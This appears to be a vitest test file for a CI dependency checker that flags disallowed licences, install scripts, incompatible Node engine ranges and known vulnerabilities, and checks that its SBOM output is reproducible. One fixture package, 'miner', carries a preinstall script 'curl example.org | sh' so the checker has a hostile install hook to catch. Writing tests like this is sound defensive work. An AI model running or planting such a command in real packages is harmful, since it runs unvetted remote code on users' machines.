// `.ci/dependencies.mjs` against packages that break its rules, and against what is installed here.
import { spawnSync } from "node:child_process";
import { chmod, mkdtemp, readFile, realpath, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { afterEach, beforeEach, expect, it } from "vitest";
import { write } from "./git-fixture.ts";

const program = fileURLToPath(new URL("../../.ci/dependencies.mjs", import.meta.url));
let root: string;
beforeEach(async () => {
  root = await realpath(await mkdtemp(path.join(tmpdir(), "fairlead-dependencies-")));
});
afterEach(() => rm(root, { recursive: true, force: true }));

interface Planted {
  /** As the lock has it. */
  readonly locked: Readonly<Record<string, unknown>>;
  /** More than name, version and licence in its package.json; absent: it is not installed. */
  readonly manifest?: Readonly<Record<string, unknown>>;
}

/** A workspace `tool` that bundles what it is given, by name. */
async function plant(planted: Readonly<Record<string, Planted>>, more: Readonly<Record<string, unknown>> = {}) {
  const devDependencies = Object.fromEntries(Object.keys(planted).map((name) => [name, "1.0.0"]));
  const packages: Record<string, unknown> = {
    "": { name: "workspace", workspaces: ["tool"] },
    tool: { name: "tool", version: "1.0.0", license: "MIT", devDependencies },
    "node_modules/tool": { resolved: "tool", link: true },
    ...more,
  };
  for (const [name, { locked, manifest }] of Object.entries(planted)) {
    packages[`node_modules/${name}`] = { version: "1.0.0", license: "MIT", ...locked };
    if (manifest === undefined) continue;
    const text = JSON.stringify({ name, version: "1.0.0", license: "MIT", ...manifest });
    await write(root, { [`node_modules/${name}/package.json`]: text });
  }
  await write(root, { "package-lock.json": JSON.stringify({ lockfileVersion: 3, packages }) });
}

function run(args: readonly string[], env: NodeJS.ProcessEnv = process.env) {
  const { status, stdout, stderr } = spawnSync(process.execPath, [program, ...args], { env, encoding: "utf8" });
  return { code: status, out: stdout, err: stderr };
}

it("names a licence that is not allowed, an install script and versions of Node that leave ours out", async () => {
  await plant({
    good: { locked: {}, manifest: {} },
    copyleft: { locked: { license: "AGPL-3.0-only" } },
    changed: { locked: {}, manifest: { license: "SEE LICENSE IN EULA.txt" } },
    silent: { locked: { license: undefined }, manifest: { license: undefined } },
    tools: { locked: { license: "MPL-2.0" } },
    miner: { locked: {}, manifest: { scripts: { test: "x", preinstall: "curl example.org | sh" } } },
    locked: { locked: { hasInstallScript: true } },
    native: { locked: {}, manifest: {} },
    new: { locked: { engines: { node: "^20.20.0 || >=22" } } },
    odd: { locked: { engines: { node: "the latest" } } },
  });
  await write(root, { "node_modules/native/binding.gyp": "{}" });
  expect(run(["--root", root, "--offline"])).toEqual({
    code: 1,
    out: "10 packages: 9 faults of licence, install script, Node or known hole\nskipped: known holes were not asked for (--offline)\n",
    err: `node_modules/changed has the licence "SEE LICENSE IN EULA.txt", which is not allowed
node_modules/copyleft has the licence "AGPL-3.0-only", which is not allowed
node_modules/locked has npm run something when it is installed: a script, as the lock says
node_modules/miner has npm run something when it is installed: preinstall
node_modules/native has npm run something when it is installed: binding.gyp
node_modules/new does not run on Node 20.19.0: it needs ^20.20.0 || >=22
node_modules/odd does not run on Node 20.19.0: it needs the latest
node_modules/silent says no licence
node_modules/tools has the licence MPL-2.0, which is for development alone
`,
  });
});

it("takes for a package of another machine the licence of the one that chooses it, and a licence for development outside of the programs", async () => {
  const other = { version: "1.0.0", optional: true, os: ["win32"] };
  await plant(
    { chooser: { locked: { license: "ISC", optionalDependencies: { "chooser-win32": "1.0.0" } } } },
    { "node_modules/chooser-win32": other, "node_modules/tools": { version: "1.0.0", license: "MPL-2.0" } },
  );
  expect(run(["--root", root, "--offline"])).toMatchObject({ code: 0, err: "" });
});

it("names known holes, but for those with a reason, and says where the registry gave no answer", async () => {
  const hole = (name: string, place: string) => ({
    [name]: {
      name,
      severity: "high",
      nodes: [place],
      via: [{ title: "It runs away", url: `https://example.org/${name}` }],
    },
  });
  const vulnerabilities = {
    ...hole("left", "node_modules/left"),
    ...hole("brace-expansion", "node_modules/cdk8s-plus-28/node_modules/brace-expansion"),
    above: { name: "above", severity: "high", nodes: ["node_modules/above"], via: ["left"] },
  };
  await plant({});
  const npm = (answer: unknown) => write(root, { "bin/npm": `#!/bin/sh\necho '${JSON.stringify(answer)}'\nexit 1\n` });
  const env = { ...process.env, PATH: `${root}/bin${path.delimiter}${process.env["PATH"]}` };
  await npm({ vulnerabilities });
  await chmod(path.join(root, "bin/npm"), 0o755);
  expect(run(["--root", root], env)).toEqual({
    code: 1,
    out: "0 packages: 1 fault of licence, install script, Node or known hole\n",
    err: "left has a known hole, high: It runs away (https://example.org/left); at node_modules/left\n",
  });
  await npm({ message: "405 Method Not Allowed" });
  expect(run(["--root", root], env)).toEqual({
    code: 0,
    out: "0 packages: no fault of licence, install script, Node or known hole\nskipped: known holes were not asked for (405 Method Not Allowed)\n",
    err: "",
  });
});

it("finds no fault in what is installed here, and says what each program consists of, with the same bytes each time", async () => {
  const files = ["fairlead.cdx.json", "fairlead-runtime.cdx.json"];
  const bomsIn = (folder: string) => Promise.all(files.map((file) => readFile(path.join(root, folder, file), "utf8")));
  for (const folder of ["first", "second"])
    expect(run(["--offline", "--sbom", path.join(root, folder)])).toMatchObject({ code: 0, err: "" });
  const first = await bomsIn("first");
  expect(await bomsIn("second")).toEqual(first);
  for (const text of first) expect(text).not.toMatch(/timestamp|serialNumber/);
  const [compiler, runtime] = first.map((text) => JSON.parse(text) as Bom);
  const how = (bom: Bom | undefined, name: string) =>
    bom?.components.find((one) => one.name === name)?.properties[0]?.value;
  expect([how(compiler, "yaml"), how(compiler, "oxc-parser"), how(compiler, "onnxruntime-node")]).toEqual([
    "in the bundle",
    "installed beside",
    undefined,
  ]);
  expect([how(runtime, "fastify"), how(runtime, "onnxruntime-node"), how(runtime, "yaml")]).toEqual([
    "in the bundle",
    "installed beside",
    undefined,
  ]);
  for (const bom of [compiler, runtime]) {
    const known = new Set(bom?.dependencies.map(({ ref }) => ref));
    expect(bom?.dependencies.flatMap(({ dependsOn }) => dependsOn).filter((ref) => !known.has(ref))).toEqual([]);
  }
});

interface Bom {
  readonly components: readonly { readonly name: string; readonly properties: readonly { readonly value: string }[] }[];
  readonly dependencies: readonly { readonly ref: string; readonly dependsOn: readonly string[] }[];
}
